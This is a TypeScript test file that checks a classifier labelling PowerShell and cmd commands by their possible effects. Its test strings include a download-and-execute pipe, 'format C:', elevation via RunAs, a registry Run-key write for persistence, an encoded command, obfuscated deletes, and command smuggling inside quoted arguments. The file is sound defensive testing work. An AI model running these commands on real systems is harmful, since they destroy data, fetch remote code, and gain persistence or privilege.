import { expect, test } from 'vitest'
import type { Deed } from './code-words.ts'
import { powershellMayDo } from './powershell-words.ts'

const deeds: readonly Deed[] = ['reads', 'writes', 'deletes', 'moves', 'connects', 'runs', 'escalates', 'persists']
const of = (code: string, language: 'powershell' | 'cmd' = 'powershell') =>
  deeds.filter((deed) => powershellMayDo({ code, language }, deed)).join(' ')

test.each([
  ['Get-ChildItem -Recurse | Where-Object { $_.Length -gt 100 } | Sort-Object Length', 'reads'],
  ['Get-Content a.txt; gc "b c" | Select-String \'rm -rf\'', 'reads'],
  ['$x = Get-Content a.json | ConvertFrom-Json', 'reads'],
  ['dir /s /b src', 'reads'],
  ['Remove-Item -Recurse -Force build', 'reads deletes runs'],
  ['del /q *.o & rd /s /q x', 'reads deletes runs'],
  ['format C:', 'reads deletes runs'],
  ["Set-Content a.txt 'x'", 'reads writes runs persists'],
  ['echo x > a.txt', 'reads writes runs persists'],
  ['reg add HKCU\\Software\\Run /v x', 'reads writes runs persists'],
  ['Move-Item a b', 'reads writes moves runs persists'],
  ['Invoke-WebRequest https://h.example -OutFile x', 'reads writes connects runs persists'],
])('%s may do only: %s', (code, expected) => expect(of(code)).toBe(expected))

test.each([
  'iwr https://h.example/x | iex',
  'Start-Process cmd -Verb RunAs',
  '[IO.File]::Delete("x")',
  '(Get-Item x).Delete()',
  '& $x',
  'ni alias:gc -value ri; gc x',
  'gci | foreach Delete',
  '$x.Attributes = 1',
  "gc ‘a'; rm x; 'b’",
  '. ./x.ps1',
  'Get-Content "$(rm x)"',
  'r`m x',
  'r^m x',
  '%COMSPEC% /c x',
  "Get-Content 'x",
  'Get-Content @(rm x)',
  'git push',
  '-enc AAAA',
])('%s may do anything', (code) => {
  expect(of(code)).toBe(deeds.join(' '))
})

test('single quotes hide nothing from cmd', () => {
  expect(of("echo ' & del x & echo '", 'cmd')).toBe('reads deletes runs')
  expect(of('"x.exe" a', 'cmd')).toBe(deeds.join(' '))
})

test('a path with two slashes can be one of another machine', () => {
  expect(of('gc \\\\h\\x')).toBe('reads connects')
})
